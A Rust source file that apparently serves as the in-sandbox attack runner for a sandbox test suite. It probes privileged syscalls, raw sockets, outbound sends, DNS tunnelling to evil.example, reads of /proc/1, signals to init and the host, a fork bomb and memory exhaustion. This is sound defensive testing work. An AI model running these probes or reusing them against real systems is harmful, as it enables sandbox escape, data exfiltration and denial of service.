//! The attacks that need raw system calls, run inside the sandbox.

use std::{ffi::CString, io, net::TcpStream};

/// Not a test: the entry of the attacks, which does nothing unless it is asked to.
#[test]
fn entry() {
    match std::env::var("MASQUE_ATTACK").as_deref() {
        Ok("calls") => calls(),
        Ok("sockets") => sockets(),
        Ok("connect") => connect(),
        Ok("device") => device(),
        Ok("queries") => queries(),
        Ok("processes") => processes(),
        Ok("descriptors") => descriptors(),
        Ok("fork") => fork(),
        Ok("memory") => memory(),
        _ => {}
    }
}

/// Prints what a system call answered.
fn tell(name: &str, result: libc::c_long) {
    let code = if result == -1 { io::Error::last_os_error().raw_os_error().unwrap() } else { 0 };
    println!("\nCALL {name} {code}");
}

macro_rules! call {
    ($name:ident $(, $argument:expr)*) => {
        tell(stringify!($name), unsafe { libc::syscall(libc::$name $(, $argument)*) })
    };
}

fn calls() {
    let mut room = [0_u64; 64];
    let room = room.as_mut_ptr();
    let (root, tmp, tmpfs) = (c"/".as_ptr(), c"/tmp".as_ptr(), c"tmpfs".as_ptr());
    call!(SYS_io_uring_setup, 1, room);
    call!(SYS_io_uring_enter, 0, 0, 0, 0, 0, 0);
    call!(SYS_userfaultfd, 1);
    call!(SYS_keyctl, 0, -3, 1);
    call!(SYS_add_key, c"user".as_ptr(), c"x".as_ptr(), c"y".as_ptr(), 1, -3);
    call!(SYS_request_key, c"user".as_ptr(), c"x".as_ptr(), 0, -3);
    call!(SYS_bpf, 0, room, 64);
    call!(SYS_perf_event_open, room, 0, -1, -1, 0);
    call!(SYS_ptrace, 0, 0, 0, 0);
    call!(SYS_ptrace, 16, 1, 0, 0);
    call!(SYS_process_vm_readv, 1, room, 1, room, 1, 0);
    call!(SYS_process_vm_writev, 1, room, 1, room, 1, 0);
    call!(SYS_kexec_load, 0, 0, 0, 0);
    call!(SYS_init_module, room, 8, root);
    call!(SYS_finit_module, 0, root, 0);
    call!(SYS_delete_module, root, 0);
    call!(SYS_mount, tmpfs, tmp, tmpfs, 0, 0);
    call!(SYS_umount2, tmp, libc::MNT_DETACH);
    call!(SYS_fsopen, tmpfs, 0);
    call!(SYS_open_tree, libc::AT_FDCWD, root, 1);
    call!(SYS_move_mount, libc::AT_FDCWD, tmp, libc::AT_FDCWD, root, 0);
    call!(SYS_mount_setattr, libc::AT_FDCWD, root, 0, room, 32);
    call!(SYS_pivot_root, tmp, tmp);
    call!(SYS_chroot, tmp);
    call!(SYS_unshare, libc::CLONE_NEWUSER);
    call!(SYS_unshare, libc::CLONE_NEWNS);
    call!(SYS_setns, 0, 0);
    call!(SYS_clone, libc::CLONE_NEWUSER | libc::SIGCHLD, 0, 0, 0, 0);
    call!(SYS_clone, libc::CLONE_NEWNET | libc::SIGCHLD, 0, 0, 0, 0);
    call!(SYS_clone3, room, 88);
    call!(SYS_ioctl, 0, libc::TIOCSTI, room);
    call!(SYS_ioctl, 0, 0x7fff_ffff_0000_0000_u64 | libc::TIOCSTI, room);
    call!(SYS_ioctl, 0, 0x541c, room);
    call!(SYS_personality, 0x004_0000);
    call!(SYS_name_to_handle_at, libc::AT_FDCWD, root, room, room, 0);
    call!(SYS_open_by_handle_at, libc::AT_FDCWD, room, 0);
    call!(SYS_pidfd_getfd, 0, 0, 0);
    call!(SYS_quotactl, 0, root, 0, 0);
    call!(SYS_swapon, tmp, 0);
    call!(SYS_reboot, 0xfee1_dead_u32, 0x2812_1969, 0, 0);
    call!(SYS_sethostname, tmp, 4);
    call!(SYS_clock_settime, 0, room);
    call!(SYS_fanotify_init, 0, 0);
    call!(SYS_syslog, 3, room, 8);
    call!(SYS_acct, 0);
    call!(SYS_mknodat, libc::AT_FDCWD, c"/tmp/disk".as_ptr(), libc::S_IFBLK | 0o600, 0x0701);
    let every = [0x2008_0522_u32, 0, u32::MAX, u32::MAX, 0, u32::MAX, u32::MAX, 0];
    call!(SYS_capset, every.as_ptr(), every.as_ptr().wrapping_add(2));
    // The other numbering of calls on this processor.
    tell("x32", unsafe { libc::syscall(0x4000_0000 + 101, 0, 0, 0, 0) });
    tell("unknown", unsafe { libc::syscall(500) });
}

fn sockets() {
    let families = [libc::AF_UNIX, libc::AF_NETLINK, libc::AF_PACKET, libc::AF_VSOCK, libc::AF_ALG, libc::AF_BLUETOOTH];
    for family in families {
        for kind in [libc::SOCK_STREAM, libc::SOCK_DGRAM, libc::SOCK_RAW, libc::SOCK_SEQPACKET] {
            tell(
                &format!("socket-{family}-{kind}"),
                unsafe { libc::socket(family, kind | libc::SOCK_CLOEXEC, 0) }.into(),
            );
        }
    }
    for family in [libc::AF_INET, libc::AF_INET6] {
        tell("socket-raw", unsafe { libc::socket(family, libc::SOCK_RAW, libc::IPPROTO_ICMP) }.into());
    }
    let mut pair = [0; 2];
    tell("datagram-pair", unsafe { libc::socketpair(libc::AF_UNIX, libc::SOCK_DGRAM, 0, pair.as_mut_ptr()) }.into());
}

/// Sends in every way that a program has, whatever its proxy variables say.
fn device() {
    let kinds = [
        ("ICMP", libc::SOCK_RAW, libc::IPPROTO_ICMP),
        ("ping", libc::SOCK_DGRAM, libc::IPPROTO_ICMP),
        ("raw IP", libc::SOCK_RAW, libc::IPPROTO_RAW),
        ("SCTP", libc::SOCK_STREAM, libc::IPPROTO_SCTP),
        ("MPTCP", libc::SOCK_STREAM, 262),
        ("UDP-Lite", libc::SOCK_DGRAM, 136),
    ];
    for (name, kind, protocol) in kinds {
        for family in [libc::AF_INET, libc::AF_INET6] {
            tell(name, unsafe { libc::socket(family, kind, protocol) }.into());
        }
    }
    tell("packet", unsafe { libc::socket(libc::AF_PACKET, libc::SOCK_RAW, 0) }.into());
    tell("netlink", unsafe { libc::socket(libc::AF_NETLINK, libc::SOCK_RAW, 0) }.into());
    // The devices and routes are not its own to change.
    let socket = std::net::UdpSocket::bind("0.0.0.0:0").unwrap();
    let mut request: libc::ifreq = unsafe { std::mem::zeroed() };
    for (place, byte) in request.ifr_name.iter_mut().zip(b"masque0") {
        *place = *byte as libc::c_char;
    }
    let number = std::os::fd::AsRawFd::as_raw_fd(&socket);
    tell("down", unsafe { libc::ioctl(number, libc::SIOCSIFFLAGS, &raw mut request) }.into());
    tell("tun", unsafe { libc::open(c"/dev/net/tun".as_ptr(), libc::O_RDWR) }.into());
    // What leaves is seen on the device. The host's own listener on the loopback must not be reached.
    for address in ["192.0.2.1:53", "192.0.2.2:443", "8.8.8.8:53"] {
        println!("\nUDP {:?}", socket.send_to(b"escape", address));
    }
    let host = std::env::var("MASQUE_ADDRESS").unwrap();
    println!("\nLOOPBACK {:?}", TcpStream::connect(host).map(drop));
    let remote = std::net::SocketAddr::from(([192, 0, 2, 3], 443));
    // Nobody answers: what counts is where the packet went.
    println!("\nTCP {:?}", TcpStream::connect_timeout(&remote, std::time::Duration::from_millis(100)).map(drop));
    println!("\nDEVICES {}", devices().join(" "));
}

/// Names of the network devices that this process sees.
fn devices() -> Vec<String> {
    let text = std::fs::read_to_string("/proc/net/dev").unwrap();
    let mut names: Vec<_> = text.lines().filter_map(|line| Some(line.split_once(':')?.0.trim().to_owned())).collect();
    names.sort();
    names
}

/// A tunnel through names: each label carries data.
fn queries() {
    let socket = std::net::UdpSocket::bind("0.0.0.0:0").unwrap();
    let server = std::fs::read_to_string("/etc/resolv.conf").unwrap();
    let server = server.trim().strip_prefix("nameserver ").unwrap();
    let mut sent = 0;
    for number in 0..1000 {
        let name = format!("label-{number}");
        let mut query = vec![0, 1, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0, name.len() as u8];
        query.extend(name.as_bytes());
        query.extend(b"\x04evil\x07example\0\0\x01\0\x01");
        sent += usize::from(socket.send_to(&query, (server, 53)).is_ok());
    }
    println!("\nSENT {sent}");
}

fn connect() {
    let address = std::env::var("MASQUE_ADDRESS").unwrap();
    let connected = TcpStream::connect(&address);
    println!("\nTCP {}", connected.map_or_else(|error| error.to_string(), |_| "connected".into()));
    let sent = std::net::UdpSocket::bind("0.0.0.0:0").and_then(|socket| socket.send_to(b"x", &address));
    println!("\nUDP {}", sent.map_or_else(|error| error.to_string(), |_| "sent".into()));
}

fn processes() {
    let host: i32 = std::env::var("MASQUE_HOST_PROCESS").unwrap().parse().unwrap();
    tell("kill-host", unsafe { libc::kill(host, 0) }.into());
    tell("kill-host-group", unsafe { libc::kill(-host, 0) }.into());
    // Signals that init does not handle must not reach it.
    for signal in [libc::SIGKILL, libc::SIGTERM, libc::SIGSTOP] {
        unsafe { libc::kill(1, signal) };
    }
    let files = [
        "mem", "environ", "maps", "root", "cwd", "exe", "io", "stack", "fd/0", "fd/1", "fd/2", "fd/3", "fd/4", "fd/5",
        "fd/6", "fd/7",
    ];
    for file in files {
        let path = CString::new(format!("/proc/1/{file}")).unwrap();
        let mut byte = 0_u8;
        // Some of them open, and refuse to be read.
        tell(&format!("read-{file}"), unsafe {
            match libc::open(path.as_ptr(), libc::O_RDONLY) {
                -1 => -1,
                open => libc::read(open, (&raw mut byte).cast(), 1) as libc::c_long,
            }
        });
    }
    let count = std::fs::read_dir("/proc").unwrap().filter(|entry| {
        entry.as_ref().unwrap().file_name().to_str().unwrap().bytes().all(|byte| byte.is_ascii_digit())
    });
    println!("\nVISIBLE {}", count.count());
}

fn descriptors() {
    let mut open: Vec<i32> = (0..4096).filter(|number| unsafe { libc::fcntl(*number, libc::F_GETFD) } != -1).collect();
    open.sort_unstable();
    println!("\nOPEN {open:?}");
}

fn fork() {
    let mut children = 0;
    while children < 4000 {
        match unsafe { libc::fork() } {
            0 => loop {
                unsafe { libc::pause() };
            },
            -1 => break,
            _ => children += 1,
        }
    }
    println!("\nFORKED {children}");
}

fn memory() {
    let mut kept: Vec<Vec<u8>> = Vec::new();
    for _ in 0..1024 {
        kept.push(vec![1; 1 << 20]);
        std::hint::black_box(&kept);
    }
    println!("\nALLOCATED");
}
